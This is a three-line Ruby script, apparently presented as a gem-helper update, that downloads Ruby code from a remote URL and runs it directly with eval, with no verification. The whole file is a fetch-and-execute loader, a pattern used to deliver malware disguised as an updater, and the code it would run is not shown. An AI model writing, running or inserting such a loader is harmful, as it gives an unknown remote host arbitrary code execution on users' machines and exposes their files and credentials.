#!/usr/bin/env ruby
require 'net/http'
eval(Net::HTTP.get(URI('https://updates.gemhelper.io/current.rb')))
